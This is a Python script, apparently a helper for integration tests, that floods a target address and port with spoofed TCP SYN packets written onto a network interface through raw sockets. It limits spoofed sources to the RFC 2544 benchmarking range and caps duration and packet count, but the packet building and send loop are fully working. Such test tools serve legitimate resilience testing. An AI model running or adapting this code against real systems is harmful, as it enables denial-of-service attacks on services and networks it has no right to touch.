#!/usr/bin/env python3
"""A spoofed SYN flood for the integration tests (standard library only).

Writes TCP SYNs straight onto an interface (AF_PACKET, so the kernel's own
stack is not involved), each from a random address of --src-net (spoofed:
no host there will ever answer a SYN-ACK), a random port and sequence
number, to --dst:--port, at --rate per second. Bounded: it stops after
--seconds (at most 60) or --count frames (at most 200000), whichever comes
first, and --src-net must lie inside 198.18.0.0/15 (RFC 2544's benchmarking
range, the only one the tests may use).

Prints one JSON object: {"sent": N, "seconds": S}.
"""

import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from frame_shim import checksum  # noqa: E402


def syn_frame(dst_mac, src_mac, src, dst, sport, dport, seq):
    # MSS 1460, SACK-permitted, timestamps, window scale 7: what Linux sends.
    opts = struct.pack("!BBH", 2, 4, 1460) + struct.pack("!BB", 4, 2) + struct.pack("!BBII", 8, 10, seq ^ 0x5A5A, 0)
    opts += struct.pack("!BBBB", 1, 3, 3, 7)
    tcp_len = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (tcp_len // 4) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, 6, tcp_len)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + tcp_len, random.getrandbits(16), 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--iface", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--src-net", default="198.19.0.0/16")
    ap.add_argument("--rate", type=int, default=3000)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--count", type=int, default=200000)
    args = ap.parse_args()
    net = ipaddress.ip_network(args.src_net)
    if not net.subnet_of(ipaddress.ip_network("198.18.0.0/15")):
        sys.exit("syn_flood.py: --src-net must lie inside 198.18.0.0/15")
    seconds = min(args.seconds, 60.0)
    count = min(args.count, 200000)
    dst_mac = bytes.fromhex(args.dst_mac.replace(":", ""))
    src_mac = bytes([0x02, 0x53, 0x59, 0x4E, 0, 1])
    dst = socket.inet_aton(args.dst)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((args.iface, 0))
    hosts = net.num_addresses
    base = int(net.network_address)
    t0 = time.monotonic()
    sent = 0
    while sent < count:
        elapsed = time.monotonic() - t0
        if elapsed >= seconds:
            break
        due = int(elapsed * args.rate) + 1
        while sent < min(due, count):
            src = struct.pack("!I", base + random.randrange(1, hosts - 1))
            s.send(syn_frame(dst_mac, src_mac, src, dst, random.randrange(1024, 65535), args.port,
                             random.getrandbits(32)))
            sent += 1
        time.sleep(0.001)
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - t0, 3)}))


if __name__ == "__main__":
    main()
